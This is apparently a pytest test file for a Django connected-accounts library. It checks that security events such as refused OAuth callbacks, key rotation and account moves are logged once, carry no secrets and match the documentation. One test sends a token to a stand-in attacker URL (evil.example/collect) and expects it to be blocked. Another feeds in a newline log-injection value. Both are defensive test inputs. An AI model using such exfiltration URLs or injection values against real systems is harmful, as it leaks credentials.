"""The log of security events: each is brought about once, in one form, and holds no secret."""

import logging
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client as Jar

from connected_accounts.clients.credentials import open_client, store_own_client
from connected_accounts.exceptions import (
    ClientRejected,
    ConfigurationError,
    ConnectedAccountsError,
    ReauthorizationRequired,
)
from connected_accounts.importers.rows import ForeignGrant, Source
from connected_accounts.importers.run import import_connections
from connected_accounts.models import ConnectedAccount
from connected_accounts.providers.base import Client
from connected_accounts.revoke.outbox import revoke_pending
from connected_accounts.secret import Secret
from connected_accounts.security import SecurityEvent, level_of, log, logger
from connected_accounts.services import disconnect, get_session, move_to_owner, refresh
from connected_accounts.testing import Answer, FakeProvider, connect_account
from tests.docs.doc_pages import column, names, table
from tests.journeys import connect, finish, start

pytestmark = pytest.mark.django_db

FIELDS = ("event", "provider", "owner", "account", "reason", "address")
NEW_KEY = "YW5vdGhlci1rZXktMDEyMzQ1Njc4OTAxMjM0NTY3ODk="
Said = tuple[str, str, str, Any, str]


@pytest.fixture
def said(caplog: pytest.LogCaptureFixture) -> Any:
    """What was logged since it was asked last: (event, provider, owner, account, reason)."""
    caplog.set_level(logging.INFO, logger=logger.name)

    def read() -> list[Said]:
        records = [record for record in caplog.records if record.name == logger.name]
        caplog.clear()
        return [tuple(vars(record)[name] for name in FIELDS[:-1]) for record in records]

    return read


def owner(user: Any) -> str:
    return f"user:{user.pk}"


def test_connecting_again_and_disconnecting(
    client_of_ada: Jar,
    ada: Any,
    badgr: FakeProvider,
    said: Any,
    django_capture_on_commit_callbacks: Any,
) -> None:
    account = connect(client_of_ada, badgr)
    connect(client_of_ada, badgr)
    pk = account.pk
    with django_capture_on_commit_callbacks(execute=True):
        disconnect(account)
    assert said() == [
        ("connected", "badgr", owner(ada), pk, ""),
        ("reconnected", "badgr", owner(ada), pk, ""),
        ("disconnected", "badgr", owner(ada), pk, ""),
    ]


def test_each_refused_callback_is_one_event_with_its_reason(
    client_of_ada: Jar,
    client_of_bob: Jar,
    ada: Any,
    bob: Any,
    badgr: FakeProvider,
    said: Any,
) -> None:
    params = badgr.authorize(start(client_of_ada), subject="ada")
    state = params["state"]
    finish(client_of_bob, params)
    finish(client_of_ada, params, "bitbadges")
    finish(client_of_ada, {"code": "x"})
    finish(client_of_ada, {"state": state})
    finish(client_of_ada, {**params, "code": "made-up"})
    finish(client_of_ada, params)
    assert said() == [
        ("refused", "badgr", owner(bob), None, "other_user"),
        ("refused", "bitbadges", owner(ada), None, "other_provider"),
        ("refused", "badgr", owner(ada), None, "malformed"),
        ("refused", "badgr", owner(ada), None, "code_missing"),
        ("refused", "badgr", owner(ada), None, "code_rejected"),
        ("refused", "badgr", owner(ada), None, "replayed"),
    ]


def test_a_reconnect_as_another_account_is_a_refusal_and_saying_no_is_none(
    client_of_ada: Jar, ada: Any, badgr: FakeProvider, said: Any
) -> None:
    account = connect(client_of_ada, badgr, subject="one")
    url = client_of_ada.post(f"/connections/{account.pk}/reconnect/")["Location"]
    said()
    finish(client_of_ada, badgr.authorize(url, subject="two"))
    assert said() == [("refused", "badgr", owner(ada), None, "other_account")]
    finish(client_of_ada, badgr.authorize(start(client_of_ada), deny=True))
    assert said() == []


def test_an_account_of_somebody_else_is_a_refusal(
    client_of_ada: Jar,
    client_of_bob: Jar,
    bob: Any,
    badgr: FakeProvider,
    said: Any,
    provider_settings: Any,
) -> None:
    provider_settings("badgr", EXCLUSIVE=True)
    connect(client_of_ada, badgr, subject="shared")
    said()
    finish(client_of_bob, badgr.authorize(start(client_of_bob), subject="shared"))
    assert said() == [("refused", "badgr", owner(bob), None, "account_in_use")]


def test_a_grant_that_ended_and_credentials_that_are_refused(
    account: ConnectedAccount, ada: Any, badgr: FakeProvider, said: Any
) -> None:
    said()
    # The third time in a row: one refusal may be of one grant only.
    badgr.script("token", *[Answer(401, json={"error": "invalid_client"})] * 3)
    for _ in range(3):
        with pytest.raises(ClientRejected):
            refresh(account)
    badgr.withdraw()
    with pytest.raises(ReauthorizationRequired):
        refresh(account)
    assert said() == [
        ("client_rejected", "badgr", "", None, "invalid_client"),
        ("reconnect_required", "badgr", owner(ada), account.pk, "revoked"),
    ]


def test_a_url_of_another_host(account: ConnectedAccount, said: Any) -> None:
    said()
    with pytest.raises(ConfigurationError):
        get_session(account).get("https://evil.example/collect?token=secret")
    assert said() == [("foreign_host", "badgr", "", None, "")]


def test_what_cannot_be_opened_wherever_it_is_needed(
    client_of_ada: Jar,
    account: ConnectedAccount,
    ada: Any,
    badgr: FakeProvider,
    said: Any,
    settings: Any,
) -> None:
    params = badgr.authorize(start(client_of_ada), subject="ada")
    settings.FIELD_ENCRYPTION_KEY = [NEW_KEY]
    said()
    with pytest.raises(ConnectedAccountsError):
        refresh(account)
    assert said() == [("undecryptable", "badgr", owner(ada), account.pk, "key_missing")]
    disconnect(account)
    revoke_pending()
    assert said() == [("undecryptable", "badgr", owner(ada), None, "key_missing")]
    finish(client_of_ada, params)
    assert said() == [
        ("undecryptable", "badgr", owner(ada), None, "key_missing"),
        ("refused", "badgr", owner(ada), None, "settings_changed"),
    ]


def test_what_operators_did(account: ConnectedAccount, said: Any, settings: Any) -> None:
    settings.FIELD_ENCRYPTION_KEY = [NEW_KEY, *settings.FIELD_ENCRYPTION_KEY]
    said()
    call_command("rotate_token_keys", "--dry-run", verbosity=0)
    assert said() == []
    call_command("rotate_token_keys", verbosity=0)
    assert said() == [("keys_rotated", "", "", None, "")]
    call_command("confirm_site", verbosity=0)
    assert said() == [("site_confirmed", "", "", None, "")]
    ConnectedAccount.objects.transition(endpoint_fingerprint="elsewhere")
    call_command("confirm_site", "--endpoints", "badgr", "--no-input")
    assert said() == [("endpoints_confirmed", "badgr", "", None, "")]


def test_credentials_that_were_entered_or_replaced(ada: Any, said: Any, now: Any) -> None:
    own = Client("an-id", Secret("a-secret"), owned=True)
    for _ in range(2):
        store_own_client(own, provider="badgr", owner=owner(ada), at=now)
    assert said() == [("client_stored", "badgr", owner(ada), None, "")] * 2


def test_credentials_that_cannot_be_opened(ada: Any, said: Any, now: Any, settings: Any) -> None:
    own = Client("an-id", Secret("a-secret"), owned=True)
    row = store_own_client(own, provider="badgr", owner=owner(ada), at=now)
    settings.FIELD_ENCRYPTION_KEY = [NEW_KEY]
    said()
    with pytest.raises(ConnectedAccountsError):
        open_client(row)
    assert said() == [("undecryptable", "badgr", owner(ada), None, "key_missing")]


# --- The form -----------------------------------------------------------------------------------


def test_a_record_has_the_documented_fields_and_says_them(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.INFO, logger=logger.name):
        log(SecurityEvent.REFUSED, provider="badgr", owner="user:1", reason="expired")
    record = caplog.records[0]
    assert column(table("reference/security-events.md", "Fields"), "Field") == list(FIELDS)
    assert [vars(record)[name] for name in FIELDS] == [
        "refused",
        "badgr",
        "user:1",
        None,
        "expired",
        "",
    ]
    assert record.getMessage() == "refused provider=badgr owner=user:1 reason=expired"


def test_a_value_cannot_look_like_another_field(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.INFO, logger=logger.name):
        log(SecurityEvent.REFUSED, owner="user:eve\nconnected provider=badgr")
    assert caplog.records[0].getMessage() == "refused owner=user:eve?connected?provider=badgr"


class OneRow(Source):
    name = "elsewhere"

    def __init__(self, user: Any) -> None:
        self.user = user

    def batch(self, after: Any, size: int) -> list[ForeignGrant]:
        grant = ForeignGrant(1, self.user.pk, "badgr", "1", "", {"access_token": "canary-token"})
        return [grant] if after is None else []


def test_importing_connections_is_said_once_for_each_provider(ada: Any, said: Any) -> None:
    list(import_connections(OneRow(ada)))
    assert said() == [("imported", "badgr", "", None, "elsewhere")]
    list(import_connections(OneRow(ada)))
    assert said() == []


def test_giving_an_account_away_is_said(ada: Any, bob: Any, badgr: Any, said: Any) -> None:
    account = connect_account(badgr, ada)
    said()
    move_to_owner(account, bob)
    new, old = (f"user:{user.pk}" for user in (bob, ada))
    assert said() == [("moved", "badgr", new, account.pk, old)]


def test_every_event_is_documented_with_its_level_and_brought_about_by_a_test() -> None:
    rows = table("reference/security-events.md", "Events")
    assert {names(row["Event"])[0]: row["Level"] for row in rows} == {
        event.value: logging.getLevelName(level_of(event)).lower() for event in SecurityEvent
    }
    import tests.security.test_security_events
    import tests.web.test_rate_limits

    pages = (tests.security.test_security_events, tests.web.test_rate_limits)
    texts = "".join(Path(str(module.__file__)).read_text("utf-8") for module in pages)
    assert [event.value for event in SecurityEvent if f'"{event.value}"' not in texts] == []
